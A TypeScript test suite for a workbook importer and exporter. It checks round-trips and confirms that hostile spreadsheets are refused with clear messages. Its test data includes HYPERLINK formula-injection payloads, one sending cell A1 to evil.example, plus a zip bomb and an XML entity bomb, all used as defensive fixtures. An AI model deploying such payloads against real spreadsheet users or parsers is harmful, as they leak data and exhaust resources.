import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { datasetToTables, tablesToDataset } from '../../../src/data/tables';
import { datasetFromFiles } from '../../../src/lib/workbook/importFile';
import { datasetTableCsv } from '../../../src/lib/workbook/csv';
import { readXlsx, SHEET_LIMITS } from '../../../src/lib/workbook/xlsxRead';
import { writeXlsx } from '../../../src/lib/workbook/xlsxWrite';
import { readZip } from '../../../src/lib/workbook/zip';
import { formatProblem } from '../../../src/data/validate';
import { loadBundled, loadFixture } from '../../fixtures/load';
import { datasetWorkbook, handWorkbook } from '../../fixtures/workbooks';

const bundled = loadBundled();
const small = loadFixture('four-parties.json');
const messages = (r: ReturnType<typeof datasetFromFiles>) => (r.ok ? [] : r.problems.map(formatProblem));
const positionsRow = (id: string, data = small) => data.positions.findIndex((p) => p.id === id) + 2;

describe('a workbook written by the export reads back as the same dataset', () => {
  it('the bundled dataset: export, read, same JSON byte for byte', async () => {
    const bytes = await writeXlsx(datasetToTables(bundled), ['a codebook line', '=SUM(1,2)']);
    const r = datasetFromFiles([{ name: 'dataset.xlsx', bytes }]);
    expect(messages(r)).toEqual([]);
    expect(r.ok && JSON.stringify(r.dataset)).toBe(JSON.stringify(bundled));
  });

  it('every text cell is a string cell formatted as Text, so a summary starting with “=” opens as text', async () => {
    const hostile = {
      ...small,
      positions: small.positions.map((p, i) =>
        i === 0 ? { ...p, summary: '=HYPERLINK("https://evil.example","click")' } : p,
      ),
    };
    const bytes = await writeXlsx(datasetToTables(hostile), []);
    const read = readXlsx(bytes, 'x.xlsx');
    expect(read.ok).toBe(true);
    const positions = read.ok ? read.sheets.find((s) => s.name === 'positions') : undefined;
    const summary = positions?.header.indexOf('summary') ?? -1;
    expect(positions?.rows[0]?.cells[summary]).toBe('=HYPERLINK("https://evil.example","click")');
    // No <f> anywhere: nothing in the file is a formula.
    const zip = readZip(bytes, 'x.xlsx', () => true);
    const xml = zip.ok ? [...zip.files.values()].map((b) => new TextDecoder().decode(b)).join('') : '';
    expect(xml).not.toMatch(/<f[ >]/);
    expect(xml).toMatch(/formatCode="@"/);
  });

  it('CSV files, one per table, read back the same (a zip of them too)', () => {
    const files = datasetToTables(bundled).map((t) => ({
      name: `${t.spec.name}.csv`,
      bytes: strToU8(datasetTableCsv(t)),
    }));
    const r = datasetFromFiles(files);
    expect(r.ok && JSON.stringify(r.dataset)).toBe(JSON.stringify(bundled));
    const zipped = zipSync(Object.fromEntries(files.map((f) => [`dataset/${f.name}`, f.bytes])));
    const z = datasetFromFiles([{ name: 'dataset.zip', bytes: zipped }]);
    expect(z.ok && JSON.stringify(z.dataset)).toBe(JSON.stringify(bundled));
  });
});

describe('the hostile workbook corpus: each refused or read with a clear message; nothing evaluated', () => {
  const target = small.positions[2];
  if (target === undefined) throw new Error('fixture');
  const row = positionsRow(target.id);

  it('a formula is reported at its cell, never run and never replaced by its cached result', () => {
    const bytes = datasetWorkbook(small, (t, r, c) =>
      t === 'positions' && r === row && c === 'summary'
        ? '<c r="REF" t="str"><f>HYPERLINK("https://evil.example/?"&amp;A1,"Read more")</f><v>Read more</v></c>'
        : undefined,
    );
    const r = datasetFromFiles([{ name: 'draft.xlsx', bytes }]);
    expect(r.ok).toBe(false);
    expect(messages(r)).toEqual([
      expect.stringMatching(
        new RegExp(`^positions, row ${row}, column summary \\([A-Z]+\\): holds a formula \\(=HYPERLINK\\(`),
      ),
    ]);
    // The cached result ("Read more") is not taken for the summary: the row is not imported at all.
    expect(r.ok).toBe(false);
  });

  it('a word where a stance belongs, a TRUE/FALSE, an error value: each at its sheet, row and column, all in one run', () => {
    const bytes = datasetWorkbook(small, (t, r, c) => {
      if (t !== 'positions' || r !== row) return undefined;
      if (c === 'stance') return '<c r="REF" t="inlineStr"><is><t>maybe</t></is></c>';
      if (c === 'attribution') return '<c r="REF" t="b"><v>1</v></c>';
      if (c === 'date') return '<c r="REF" t="e"><v>#REF!</v></c>';
      return undefined;
    });
    const found = messages(datasetFromFiles([{ name: 'draft.xlsx', bytes }]));
    expect(found).toEqual(
      expect.arrayContaining([
        `positions, row ${row}, column stance (E): "maybe": expected one of: supports, conditional, opposes`,
        expect.stringMatching(
          new RegExp(
            `^positions, row ${row}, column attribution \\([A-Z]+\\): holds TRUE, a yes/no value, where text belongs`,
          ),
        ),
        expect.stringMatching(
          new RegExp(`^positions, row ${row}, column date \\([A-Z]+\\): holds the error value #REF!`),
        ),
      ]),
    );
    expect(found).toHaveLength(3);
  });

  it('a date typed as a date (a day count) is read as the day it shows, in either of the spreadsheets’ date systems', () => {
    // 45000 is 2023-03-15 in the 1900 system, 2027-03-16 in the 1904 one.
    const sheets = datasetToTables(small).map((t) => ({
      name: t.spec.name,
      header: t.spec.columns.map((c) => c.name),
      rows: t.rows.map((cells, i) => ({
        row: i + 2,
        cells:
          t.spec.name === 'positions' && i === row - 2
            ? cells.map((v, j) => (t.spec.columns[j]?.name === 'date' ? 45000 : v))
            : cells,
      })),
    }));
    const r = tablesToDataset(sheets);
    expect(r.dataset?.positions.find((p) => p.id === target.id)?.date).toBe('2023-03-15');
    expect(tablesToDataset(sheets, { date1904: true }).dataset?.positions.find((p) => p.id === target.id)?.date).toBe(
      '2027-03-16',
    );
  });

  it('a compressed bomb is stopped at the unpacking limit, not unpacked whole', () => {
    const bomb = zipSync({ 'xl/workbook.xml': new Uint8Array(20_000_000) }, { level: 9 });
    expect(bomb.length).toBeLessThan(100_000);
    const r = readXlsx(bomb, 'bomb.xlsx', { fileBytes: 50_000_000, unpackedBytes: 5_000_000, entries: 100 });
    expect(r.ok ? [] : r.problems).toEqual([
      'bomb.xlsx unpacks to more than 5 MB, the limit; reading stopped there (a compressed “bomb”, or far more than a dataset)',
    ]);
  });

  it('a sheet that says it has a million rows, or holds a million empty ones, is refused by its count before it is read', () => {
    const declared = handWorkbook({
      positions:
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:Z1000000"/><sheetData/></worksheet>',
    });
    expect(messages(datasetFromFiles([{ name: 'big.xlsx', bytes: declared }]))).toEqual([
      `sheet positions has 1,000,000 rows; the limit is ${SHEET_LIMITS.rows.toLocaleString('en-GB')}`,
    ]);
    const empty = handWorkbook({
      positions: '<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row><row r="1000000"/>',
    });
    expect(messages(datasetFromFiles([{ name: 'empty.xlsx', bytes: empty }]))).toEqual([
      `sheet positions has 1,000,000 rows; the limit is ${SHEET_LIMITS.rows.toLocaleString('en-GB')}`,
    ]);
  });

  it('an entity bomb in a sheet’s XML is refused unparsed', () => {
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>`;
    expect(messages(datasetFromFiles([{ name: 'lol.xlsx', bytes: handWorkbook({ meta: laughs }) }]))).toEqual([
      'sheet meta of lol.xlsx is not readable XML',
    ]);
  });

  it('files that are not workbooks: each named for what it is', () => {
    const cases: [string, Uint8Array, string][] = [
      [
        'notes.xlsx',
        strToU8('just some text'),
        "notes.xlsx is not a workbook or a zip file: its first bytes are not a zip's",
      ],
      [
        'old.xls',
        new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
        'old.xls is an Excel 97–2003 file (.xls); save it as an Excel workbook (.xlsx)',
      ],
      [
        'sheet.xlsx',
        zipSync({ mimetype: strToU8('application/vnd.oasis.opendocument.spreadsheet') }),
        'sheet.xlsx is an OpenDocument file (.ods); save it as an Excel workbook (.xlsx)',
      ],
      [
        'cut.xlsx',
        datasetWorkbook(small).subarray(0, 2000),
        'cut.xlsx cannot be read: it is not a complete zip file (no central directory): it may be cut short',
      ],
      [
        'photos.zip',
        zipSync({ 'a.jpg': new Uint8Array(10) }),
        'photos.zip holds no .csv files; it should hold one per table (positions.csv, …)',
      ],
    ];
    for (const [name, bytes, message] of cases)
      expect(messages(datasetFromFiles([{ name, bytes }])), name).toEqual([message]);
  });

  it('a CSV in a Windows code page or in UTF-16 is refused with the byte where it breaks, never read as mojibake', () => {
    // "id,name\nua,Україна" with the Cyrillic in windows-1251.
    const cp1251 = new Uint8Array([...strToU8('id,name\r\nua,'), 0xd3, 0xea, 0xf0, 0xe0, 0xbf, 0xed, 0xe0]);
    expect(messages(datasetFromFiles([{ name: 'parties.csv', bytes: cp1251 }]))).toEqual([
      'parties.csv is not UTF-8 (byte 13, 0xD3, is not valid UTF-8: a Windows code page such as 1251 or 1252?); save it as “CSV UTF-8”',
    ]);
    expect(messages(datasetFromFiles([{ name: 'parties.csv', bytes: new Uint8Array([0xff, 0xfe, 0x69, 0]) }]))).toEqual(
      ["parties.csv is UTF-16 text (Excel's “Unicode text”); save it as “CSV UTF-8”"],
    );
  });

  it('sheets and columns it does not know, and missing ones, are named; nothing valid is dropped silently', () => {
    const tables = datasetToTables(small).filter((t) => t.spec.name !== 'issues');
    const sheets = [
      ...tables.map((t) => ({
        name: t.spec.name,
        header:
          t.spec.name === 'parties'
            ? [...t.spec.columns.map((c) => c.name), 'colour']
            : t.spec.columns.map((c) => c.name),
        rows: t.rows.map((cells, i) => ({ row: i + 2, cells })),
      })),
      { name: 'Sheet2', header: ['a'], rows: [] },
    ];
    const found = tablesToDataset(sheets).problems.map(
      (p) => `${p.sheet}|${p.row ?? ''}|${p.column?.name ?? ''}|${p.message.slice(0, 40)}`,
    );
    expect(found).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^Sheet2\|\|\|is not one of the dataset's tables/),
        'issues|||is missing: every dataset has this table',
        expect.stringMatching(/^parties\|1\|colour\|"colour" is not a column of parties/),
      ]),
    );
  });
});
